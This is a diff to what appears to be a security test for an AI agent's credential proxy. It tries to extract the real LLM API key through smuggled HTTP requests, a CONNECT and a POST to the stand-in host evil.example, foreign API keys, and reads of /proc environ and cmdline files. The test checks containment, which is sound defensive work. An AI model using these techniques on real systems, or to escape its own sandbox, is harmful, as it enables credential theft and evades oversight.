@@ -1,4 +1,4 @@
-"""Gets the LLM's key, or other access with it: by other paths, other hosts, or the memory of other processes.
+"""Gets the LLM's key, or other access with it: by other paths, other hosts, other keys, or other processes' memory.
 
 The agent has a placeholder for the key, which gives it completions from one provider and nothing else.
 """
@@ -25,7 +25,7 @@ def prepare(stack, folder):
     class Provider(Quiet):
         def respond(self):
             with (folder.parent / "asked.jsonl").open("a") as file:
-                file.write(json.dumps([self.command, self.path]) + "\n")
+                file.write(json.dumps([self.command, self.path, "foreign" in str(self.headers)]) + "\n")
             body = json.dumps({"error": f"no such key: {self.headers.get('x-api-key')}"}).encode()
             self.say(body, status=401)
 
@@ -49,7 +49,8 @@ def attack(scene):
     heard.append(say(two.encode() + SMUGGLED))
     heard.append(say(b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n"))
     heard.append(say(b"POST http://evil.example/v1/messages HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}"))
-    heard.append(say(f"POST /v1/messages HTTP/1.1\r\n{headers}Content-Length: 2\r\n\r\n{{}}".encode()))
+    for more in ("", "X-Api-Key: sk-foreign\r\n", "Authorization: Bearer sk-foreign\r\n"):
+        heard.append(say(f"POST /v1/messages HTTP/1.1\r\n{headers}{more}Content-Length: 2\r\n\r\n{{}}".encode()))
     for process in Path("/proc").iterdir():
         if process.name.isdigit():
             for name in ("environ", "cmdline"):
@@ -72,6 +73,6 @@ def held(after):
     asked = after.run.root.parents[1] / "scripts" / "asked.jsonl"
     lines = [json.loads(line) for line in asked.read_text().splitlines()] if asked.exists() else []
     asked.unlink(missing_ok=True)
-    if others := [line for line in lines if line != ["POST", "/v1/messages"]]:
-        return f"the provider was asked for {others[:3]}"
+    if others := [line for line in lines if line != ["POST", "/v1/messages", False]]:
+        return f"the provider was asked for {others[:3]}, with a foreign key if it says true"
     return "" if after.got is None else "it has the key"
